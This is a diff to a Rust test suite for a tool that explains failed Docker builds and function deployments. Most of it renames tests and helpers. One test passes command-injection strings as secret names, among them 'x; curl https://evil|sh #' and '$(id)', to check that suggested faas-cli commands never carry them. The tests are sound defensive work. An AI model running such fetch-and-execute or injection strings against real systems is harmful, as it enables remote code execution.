@@ -3,7 +3,7 @@
 use super::*;
 
 #[test]
-fn an_exit_code_alone_is_no_hint() {
+fn an_exit_code_alone_gives_no_hint() {
     let failure = Failure {
         error: "process \"/bin/sh -c make\" did not complete successfully: exit code: 2",
         step: Some(FailedStepOutput {
@@ -20,7 +20,7 @@ fn an_exit_code_alone_is_no_hint() {
 }
 
 #[test]
-fn the_words_of_kinds_are_lower_case_and_each_is_one_kinds() {
+fn the_words_of_hint_kinds_are_unique_and_lower_case_and_are_their_json() {
     let words: std::collections::BTreeSet<_> = HintKind::ALL.iter().map(|kind| kind.as_str()).collect();
     assert_eq!(words.len(), HintKind::ALL.len());
     for kind in HintKind::ALL {
@@ -74,8 +74,8 @@ fn explain_step(
 }
 
 /// Explains an error of BuildKit at line 2 of a Dockerfile.
-fn explain_error(dockerfile: &'static str, error: &str) -> Option<Hint> {
-    let file = Box::leak(Box::new([("Dockerfile", dockerfile)]));
+fn explain_error_at_line_2(dockerfile_text: &'static str, error: &str) -> Option<Hint> {
+    let file = Box::leak(Box::new([("Dockerfile", dockerfile_text)]));
     explain(&Failure {
         error,
         step: None,
@@ -87,7 +87,7 @@ fn explain_error(dockerfile: &'static str, error: &str) -> Option<Hint> {
     })
 }
 
-fn explain_reason(reason: &str) -> Option<Hint> {
+fn explain_deployment_reason(reason: &str) -> Option<Hint> {
     explain_deployment(&serde_json::json!({ "reasons": [reason] }))
 }
 
@@ -101,17 +101,17 @@ fn what_a_function_logs_is_no_cause_of_a_failed_deployment() {
         "no node takes the pod: x",
         "the container cannot be started: CreateContainerConfigError: secret \"x\" not found",
     ] {
-        let hint = explain_reason(&format!("{ended}{logged}")).expect("the container ended");
+        let hint = explain_deployment_reason(&format!("{ended}{logged}")).expect("the container ended");
         assert_eq!(hint.kind, HintKind::FunctionExits, "{logged}: {hint:?}");
         assert!(
             !hint.next.contains("evil") && !hint.next.contains("$("),
             "{hint:?}"
         );
         let answered = format!("not ready within 1m: the function answered GET / with 500: {logged}");
-        let hint = explain_reason(&answered).expect("the probe failed");
+        let hint = explain_deployment_reason(&answered).expect("the probe failed");
         assert_eq!(hint.kind, HintKind::ProbeFailed, "{logged}: {hint:?}");
     }
-    let hint = explain_reason(
+    let hint = explain_deployment_reason(
         "not ready within 1m: the function answered GET / with 500: database: connection refused",
     );
     assert_eq!(hint.map(|hint| hint.kind), Some(HintKind::ProbeFailed));
@@ -121,14 +121,15 @@ fn what_a_function_logs_is_no_cause_of_a_failed_deployment() {
 fn a_name_of_a_secret_is_part_of_a_command_only_if_it_is_a_name() {
     for name in ["x; curl https://evil|sh #", "$(id)", "`id`", "UPPER", "-f", ""] {
         let reason = format!("nothing was changed: the secret {name:?} does not exist");
-        if let Some(hint) = explain_reason(&reason) {
+        if let Some(hint) = explain_deployment_reason(&reason) {
             assert!(
                 !hint.next.contains(&format!("create {name}")) && !hint.next.contains("$("),
                 "{hint:?}"
             );
         }
     }
-    let hint = explain_reason("nothing was changed: the secret \"db.key-1\" does not exist").expect("a hint");
+    let hint = explain_deployment_reason("nothing was changed: the secret \"db.key-1\" does not exist")
+        .expect("a hint");
     assert!(hint.next.contains("faas-cli secret create db.key-1"), "{hint:?}");
 }
 
@@ -162,7 +163,7 @@ fn output_does_not_make_a_hint_advise_to_send_an_ignored_file() {
 }
 
 #[test]
-fn a_file_that_copy_would_have_brought_there_is_explained_by_the_pattern() {
+fn a_missing_file_that_copy_would_have_brought_to_the_path_is_explained_by_the_pattern() {
     const FILES: &[(&str, &str)] = &[
         (
             "Dockerfile",
@@ -179,7 +180,7 @@ fn a_file_that_copy_would_have_brought_there_is_explained_by_the_pattern() {
         assert_eq!(hint.kind, HintKind::SourceIgnored, "{hint:?}");
         assert!(hint.next.contains("!src/gen.sh"), "{hint:?}");
     }
-    const ELSEWHERE: &[(&str, &str)] = &[
+    const FILES_WITH_CD_IN_COMMAND: &[(&str, &str)] = &[
         (
             "Dockerfile",
             "FROM a\nWORKDIR /app\nCOPY src/ lib\nRUN cd x && sh lib/gen.sh\n",
@@ -188,7 +189,7 @@ fn a_file_that_copy_would_have_brought_there_is_explained_by_the_pattern() {
         ("src/gen.sh", ""),
     ];
     let output = "sh: 0: cannot open lib/gen.sh: No such file";
-    let hint = explain_step(ELSEWHERE, (4, "cd x && sh lib/gen.sh", 2), output);
+    let hint = explain_step(FILES_WITH_CD_IN_COMMAND, (4, "cd x && sh lib/gen.sh", 2), output);
     assert_ne!(hint.map(|hint| hint.kind), Some(HintKind::SourceIgnored));
 }
 
@@ -292,24 +293,24 @@ fn the_text_of_a_command_is_no_error_of_a_registry_or_a_dockerfile() {
     ] {
         assert_eq!(explain_step(FILES, (4, command, 1), ""), None, "{command}");
         let error = format!("process \"/bin/sh -c {command}\" did not complete successfully: exit code: 1");
-        assert_eq!(refusing_registry(&error), None, "{command}");
+        assert_eq!(registry_refusing_credentials(&error), None, "{command}");
     }
 }
 
 #[test]
 fn a_mount_from_a_stage_is_not_looked_for_in_the_context() {
     let error = "failed to compute cache key: failed to calculate checksum of ref a::b: \"/out\": not found";
-    let mount = explain_error(
+    let mount = explain_error_at_line_2(
         "FROM a\nRUN --mount=type=bind,from=build,source=/out,target=/x make\n",
         error,
     )
     .expect("a hint");
     assert!(mount.cause.starts_with("build has no /out"), "{mount:?}");
-    let context =
-        explain_error("FROM a\nRUN --mount=type=bind,source=out,target=/x make\n", error).expect("a hint");
+    let context = explain_error_at_line_2("FROM a\nRUN --mount=type=bind,source=out,target=/x make\n", error)
+        .expect("a hint");
     assert_eq!(context.cause, "the context has no out");
     let two = "FROM a\nRUN --mount=from=b,source=/out,target=/x --mount=source=out,target=/y make\n";
-    assert_eq!(explain_error(two, error), None);
+    assert_eq!(explain_error_at_line_2(two, error), None);
 }
 
 #[test]
